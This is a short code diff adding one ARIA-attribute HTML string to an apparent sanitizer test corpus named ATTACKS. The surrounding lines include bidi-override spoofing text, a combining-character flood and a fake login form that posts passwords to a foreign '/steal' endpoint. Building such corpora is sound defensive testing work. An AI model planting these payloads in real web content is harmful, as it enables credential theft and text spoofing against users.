@@ -168,7 +168,8 @@ export const ATTACKS: Record<string, string[]> = {
     `<font size=7 color=red>x</font><center>x</center><blink>x</blink><p align=right bgcolor=red>x</p>`,
     `<dialog open style="position:fixed">x</dialog><div popover=manual>x</div>`,
     `<p dir=rtl>\u202eevil\u202c \u2066x</p><p>Z\u0300${'\u0301'.repeat(400)}</p>`,
-    `<p hidden>x</p><p inert>x</p><div slot=x part=y is=z>x</div>`
+    `<p hidden>x</p><p inert>x</p><div slot=x part=y is=z>x</div>`,
+    `<p role=alert aria-live=assertive aria-label=y tabindex=1 accesskey=s>x</p>`
   ],
   forms: [
     `<form action="${FOREIGN}/steal"><input name=password type=password><button>Log in</button></form>`,
